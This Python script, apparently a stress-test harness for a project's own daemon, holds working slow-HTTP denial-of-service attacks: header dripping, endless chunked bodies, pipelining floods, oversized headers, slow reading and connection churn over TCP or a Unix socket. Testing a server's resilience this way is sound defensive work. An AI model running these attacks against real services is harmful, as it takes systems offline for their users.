"""A stranger on the network who sends a daemon's port, or its socket, what it must bear.

Runs as a script of its own, without this package, until it is killed.

    python -I attacker.py ATTACK HOST PORT SOURCE      (HOST is a path and PORT 0: the Unix socket)

It keeps its connections open, opens a new one for each that the daemon closes, and reads no answer unless
the attack says so. It is nice: on a machine that it shares with its victim, the processor is not the weapon.
"""

from __future__ import annotations

import contextlib
import os
import random
import selectors
import socket
import sys
import time

CONNECTIONS = 60
HEAD = b"GET /status HTTP/1.1\r\nHost: x\r\n"
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
ORDER = b"POST /resume HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
METRICS = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"

# What a connection begins with, what it goes on with for as long as it is open, and whether answers are read.
ATTACKS: dict[str, tuple[bytes, bytes, bool]] = {
    "silent": (b"", b"", False),
    "chunks": (CHUNKED, b"1\r\n \r\n", False),
    "orders": (ORDER, b"1\r\n \r\n", False),
    "pipelining": (METRICS, METRICS * 100, False),
    "dripping": (HEAD + b"X: ", b"x", False),
    "headers": (HEAD, b"".join(b"X%d: %s\r\n" % (number, b"x" * 8000) for number in range(127)), False),
    "slow-reading": (METRICS, b"", False),
    "requests": (METRICS, b"", True),
    "streams": (b"GET /events?view=page HTTP/1.1\r\nHost: localhost\r\n\r\n", b"", True),
    "connects": (b"", b"", True),
}


def main() -> None:
    """Attacks until killed."""
    attack, host, port, *sources = sys.argv[1:]
    os.nice(19)
    _Attacker(attack, (host, int(port)), sources).run()


class _Attacker:
    def __init__(self, attack: str, target: tuple[str, int], sources: list[str]) -> None:
        self._begins, self._goes_on, self._reads = ATTACKS[attack]
        self._leaves_at_once = attack == "connects"
        self._target = target
        self._sources = sources
        self._selector = selectors.DefaultSelector()
        self._unread: list[socket.socket] = []

    def run(self) -> None:
        """Until killed. Of the connections whose answers are not read the newest are kept."""
        while True:
            for _ in range(CONNECTIONS - len(self._selector.get_map())):
                self._open()
            while len(self._unread) > 2 * CONNECTIONS:
                self._unread.pop(0).close()
            for key, events in self._selector.select(0.05):
                with contextlib.suppress(BlockingIOError):
                    self._serve(key.fileobj, events)

    def _open(self) -> None:
        host, port = self._target
        sock = socket.socket(socket.AF_INET if port else socket.AF_UNIX)
        sock.settimeout(1)
        try:
            if port:
                sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096 if not self._reads else 65536)
                sock.bind((random.choice(self._sources), 0))
            sock.connect(self._target if port else host)
            sock.sendall(self._begins)
        except OSError:
            sock.close()
            time.sleep(0.001)
            return
        if self._leaves_at_once:
            sock.close()
            return
        sock.setblocking(False)
        events = selectors.EVENT_READ if self._reads or not self._goes_on else 0
        self._selector.register(sock, events | (selectors.EVENT_WRITE if self._goes_on else 0))

    def _serve(self, sock: socket.socket, events: int) -> None:
        try:
            if events & selectors.EVENT_WRITE:
                sock.send(self._goes_on)
            elif self._reads:
                if not sock.recv(65536):
                    raise ConnectionResetError
            elif sock.recv(1, socket.MSG_PEEK):
                self._selector.unregister(sock)  # it has an answer, and is not read
                self._unread.append(sock)
            else:
                raise ConnectionResetError
        except BlockingIOError:
            raise
        except OSError:
            self._selector.unregister(sock)
            sock.close()


if __name__ == "__main__":
    main()
